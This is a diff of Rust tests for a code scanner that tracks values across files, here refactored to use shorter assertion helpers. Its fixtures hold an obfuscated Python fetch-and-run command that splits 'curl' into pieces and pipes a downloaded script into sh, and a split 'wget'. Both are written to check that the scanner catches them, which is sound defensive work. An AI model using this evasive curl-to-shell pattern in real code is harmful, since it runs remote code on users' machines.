@@ -1,7 +1,7 @@
 //! Tests of values followed across files (decision 0042).
 
 use super::link::{stem, Kept, MAX_LINK_FILE};
-use super::tests::{has, scan};
+use super::tests::{assert_has, flagged, has, scan};
 use super::Lang;
 use crate::{ScanResult, Severity};
 
@@ -33,11 +33,7 @@ fn python_command_spelled_in_one_module_runs_in_another() {
         ),
     ]);
     assert!(joined_from(&r, "scripts/cfg.py"), "{:#?}", r.inventory);
-    assert!(
-        has(&r, "combo.assembled-command", Severity::High),
-        "{:#?}",
-        r.findings
-    );
+    assert_has(&r, "combo.assembled-command", Severity::High);
     // Read alone, neither file says what runs.
     let alone = scan(&[(
         "scripts/run.py",
@@ -75,11 +71,7 @@ fn javascript_required_and_imported_values_are_followed() {
         ),
     ]);
     assert!(joined_from(&r, "lib/cfg.js"), "{:#?}", r.inventory);
-    assert!(
-        has(&r, "combo.assembled-command", Severity::High),
-        "{:#?}",
-        r.findings
-    );
+    assert_has(&r, "combo.assembled-command", Severity::High);
 
     let r = scan(&[
         ("src/words.mjs", "export const tool = 'wg' + 'et';\n"),
@@ -166,7 +158,7 @@ fn stems_and_bounds() {
 
 #[test]
 fn a_command_joined_from_a_module_and_run_is_remote_code() {
-    let r = scan(&[
+    flagged(&[
         (
             "scripts/settings.py",
             "TOOL = 'cu' + 'rl'\nMIRROR = 'https://notes-sync.example-cdn.net/b.sh'\n",
@@ -175,10 +167,5 @@ fn a_command_joined_from_a_module_and_run_is_remote_code() {
             "scripts/sync.py",
             "import os\nimport settings\nos.system(settings.TOOL + ' -fsS ' + settings.MIRROR + ' | sh')\n",
         ),
-    ]);
-    assert!(
-        has(&r, "combo.remote-code", Severity::Critical),
-        "{:#?}",
-        r.findings
-    );
+    ], "combo.remote-code", Severity::Critical);
 }
